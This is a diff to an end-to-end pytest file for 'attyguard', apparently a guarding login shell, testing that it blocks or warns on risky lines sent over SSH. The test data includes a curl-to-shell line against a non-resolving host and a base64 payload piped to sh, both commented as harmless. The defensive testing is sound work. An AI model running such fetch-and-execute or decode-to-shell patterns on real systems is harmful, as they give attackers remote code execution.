@@ -16,7 +16,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from login_fixtures import PROFILE_MARK, PROMPT, Sshd, Tmux, engine_blocks
+from login_fixtures import PROFILE_MARK, PROMPT, Sshd, Tmux, engine_verdict
 
 pytestmark = [pytest.mark.e2e, pytest.mark.root]
 
@@ -94,22 +94,45 @@ def test_git_clone_and_push_over_ssh(sshd: Sshd, tmp_path: Path) -> None:
     assert (tmp_path / "again" / "f.bin").read_bytes() == PAYLOAD
 
 
-def _need_a_blocking_engine(sshd: Sshd) -> None:
+# Decodes to `echo decoded-ran`: harmless, and visible on stdout if it ever runs.
+DECODED_TO_SHELL = "echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh"
+# The issue's example; the download never happens (.invalid never resolves, and
+# the line only runs if the guard fails).
+CURL_TO_SHELL = "curl http://example.invalid/x | sh"
+
+
+def _need_verdict(sshd: Sshd, probe: str, action: str) -> None:
+    """Skip unless the shell under test is attyguard and its engine says `action` for `probe`."""
     if sshd.user.shell.name != "attyguard":
         pytest.skip("the control shell (bash) guards nothing")
-    blocked, said = engine_blocks("curl http://x/y | sh")
-    if not blocked:
-        pytest.skip(f"the engine does not block `curl … | sh` yet (attyguard check: {said})")
+    said = engine_verdict(probe)
+    if said.action != action:
+        pytest.skip(f"the engine does not {action} `{probe}` yet (attyguard check: {said.text})")
 
 
-def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd) -> None:
-    line = "curl http://example.invalid/x | sh"
-    _need_a_blocking_engine(sshd)
-    marker = sshd.user.home / "ran-before-curl"
+@pytest.mark.parametrize(
+    ("line", "probe"),
+    [(CURL_TO_SHELL, "curl http://x/y | sh"), (DECODED_TO_SHELL, DECODED_TO_SHELL)],
+    ids=["curl-pipe-sh", "decoded-into-sh"],
+)
+def test_ssh_blocked_command_is_refused_without_running(sshd: Sshd, line: str, probe: str) -> None:
+    _need_verdict(sshd, probe, "block")
+    marker = sshd.user.home / "ran-before-block"
     done = sshd.ssh(f"touch {marker}; {line}")
     assert done.returncode == 126, sshd.explain(done)
     assert not marker.exists(), "the blocked line ran (its first command left its marker)"
     assert done.stdout == b"", sshd.explain(done)
+    assert len(done.stderr.decode(errors="replace").strip().splitlines()) == 1, sshd.explain(done)
+
+
+def test_ssh_warned_command_runs_after_one_line(sshd: Sshd) -> None:
+    # Non-interactive default (shell.noninteractive_warn = "run"): say it once, then run.
+    line = "curl -s file:///dev/null | sh"  # a download piped to a shell, with no network
+    _need_verdict(sshd, line, "warn")
+    marker = sshd.user.home / "ran-after-warn"
+    done = sshd.ssh(f"touch {marker}; {line}; echo done")
+    assert (done.returncode, done.stdout) == (0, b"done\n"), sshd.explain(done)
+    assert marker.exists(), "the warned line did not run"
     assert len(done.stderr.decode(errors="replace").strip().splitlines()) == 1, sshd.explain(done)
 
 
@@ -166,11 +189,11 @@ def test_ssh_interactive_login(sshd: Sshd, tmux: Tmux) -> None:
 
 
 def test_ssh_interactive_login_refuses_a_blocked_line(sshd: Sshd, tmux: Tmux) -> None:
-    _need_a_blocking_engine(sshd)
+    _need_verdict(sshd, DECODED_TO_SHELL, "block")
     marker = sshd.user.home / "ran-interactive"
     tmux.start(sshd.ssh_argv("-tt"))
     tmux.wait_screen(lambda s: PROMPT.rstrip() in s, "the login prompt over ssh")
-    tmux.send(f"touch {marker}; curl http://example.invalid/x | sh")
+    tmux.send(f"touch {marker}; {DECODED_TO_SHELL}")
     tmux.wait_screen(lambda s: "REFUSED" in s, "the REFUSED line")
     assert not marker.exists(), "the refused line ran\n" + tmux.explain()
     tmux.send("echo still-$((1+1))")
